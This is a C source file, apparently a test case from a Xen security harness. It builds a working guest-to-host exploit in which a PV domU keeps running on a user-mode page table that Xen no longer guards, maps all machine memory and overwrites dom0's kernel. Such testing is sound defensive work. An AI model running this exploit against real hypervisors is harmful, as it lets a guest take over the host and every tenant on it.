// SPDX-License-Identifier: GPL-2.0-only
/*
 * U-CONTENT-CONTEXT: a page table that the processor uses and that Xen no longer
 * guards, by a vCPU's change of mode.
 *
 * A 64-bit PV vCPU has two page tables, its kernel's and user mode's, and Xen
 * keeps a domU from writing to either. setvcpucontext can put the vCPU from user
 * mode into its kernel, but leaves it on the page table of user mode. Here the
 * domU is an accomplice, both of whose page tables map the same. It gives the
 * one of user mode up, on which it runs: for Xen that frame is ordinary memory
 * now, which the domU may map and write. So it maps all of the machine's memory,
 * and writes over dom0's kernel.
 */
#include "content.h"

#include <sys/mman.h>

/* The frame behind those of the accomplice: its page table for user mode. */
#define USER_ROOT ACCOMPLICE_FRAMES

/*
 * What is written to it: one entry that leads to the table itself, so that it is
 * also the table of the next level, and there entries for pages of 1 GiB, which
 * are the machine's memory from its start. The window reaches that at MEMORY_AT.
 */
#define TABLE_ENTRY  1
#define MEMORY_ENTRY 2
#define MEMORY_AT    ((uint64_t)TABLE_ENTRY << 39 | (uint64_t)MEMORY_ENTRY << 30)
#define IN_USE       0x67 /* present, writable, for user mode */
#define LARGE        0x80

/* Make it an accomplice whose vCPU is in user mode; @context is the vCPU's. */
static bool in_user_mode(domid_t domid, xen_pfn_t *user_root,
                         struct vcpu_guest_context *context)
{
    xen_pfn_t frames[USER_ROOT + 1];
    void *kernel_table, *user_table;

    if ( !content_accomplice(domid, frames, USER_ROOT + 1, context) )
        return false;

    *user_root = frames[USER_ROOT];
    kernel_table = map_frame(MAP_BATCH_V2, domid,
                             xen_cr3_to_pfn(context->ctrlreg[3]));
    user_table = map_frame(MAP_BATCH_V2, domid, *user_root);
    if ( !kernel_table || !user_table )
        return false;
    memcpy(user_table, kernel_table, PAGE_SIZE);
    munmap(kernel_table, PAGE_SIZE);
    munmap(user_table, PAGE_SIZE);

    context->flags &= ~(uint32_t)VGCF_in_kernel;
    context->ctrlreg[1] = xen_pfn_to_cr3(*user_root);

    return !content_set_context(domid, context);
}

static bool give_up_user_root(void)
{
    long result;

    memset(accomplice_memory(), 0, sizeof(struct mmuext_op));
    ((struct mmuext_op *)accomplice_memory())->cmd = MMUEXT_NEW_USER_BASEPTR;

    return accomplice_calls(&result, __HYPERVISOR_mmuext_op,
                            accomplice_memory_at, 1, 0, DOMID_SELF) &&
           !result;
}

/* Write an entry of the table, which is the first page of the window. */
static bool set_entry(unsigned int index, uint64_t entry)
{
    const unsigned int offset = index * (unsigned int)sizeof(entry);

    return accomplice_stores(0, offset, (uint32_t)entry) &&
           accomplice_stores(0, offset + 4, (uint32_t)(entry >> 32));
}

/*
 * At the first page of the window. Not by accomplice_maps(): a domU without
 * devices may map nothing uncached.
 */
static bool map_user_root(xen_pfn_t user_root)
{
    long result;

    return accomplice_calls(&result, __HYPERVISOR_update_va_mapping,
                            ACCOMPLICE_WINDOW, user_root * PAGE_SIZE | IN_USE,
                            UVMF_INVLPG, 0) &&
           !result;
}

static bool take_memory(xen_pfn_t user_root)
{
    bool taken = give_up_user_root() && map_user_root(user_root) &&
                 set_entry(TABLE_ENTRY, user_root * PAGE_SIZE | IN_USE);

    for ( unsigned int i = 0; i < CONTENT_GIB; i++ )
        taken = taken &&
                set_entry(MEMORY_ENTRY + i, (uint64_t)i << 30 | IN_USE | LARGE);

    return taken;
}

RAW_ATTACK("U-CONTENT-CONTEXT",
           "a domU's page table, by a vCPU's change of mode")
{
    struct vcpu_guest_context *context = buffer(sizeof(*context));
    const domid_t domid = new_domain(DOMU_PV);
    bool written = false;
    xen_pfn_t user_root;
    long result;

    /* To set again what the vCPU has is honest, and must work everywhere. */
    if ( domid == DOMID_INVALID || !in_user_mode(domid, &user_root, context) ||
         content_set_context(domid, context) )
    {
        end_domain(domid);
        return missing("no domU in user mode");
    }

    context->flags |= VGCF_in_kernel;
    result = content_set_context(domid, context);
    if ( !result && !issue(DOMCTL_CALL(unpausedomain, domid)) &&
         take_memory(user_root) )
        written = content_overwrites_victim(MEMORY_AT);
    end_domain(domid);

    return content_seen(written, result,
                        "a domU has rewritten the kernel's version");
}
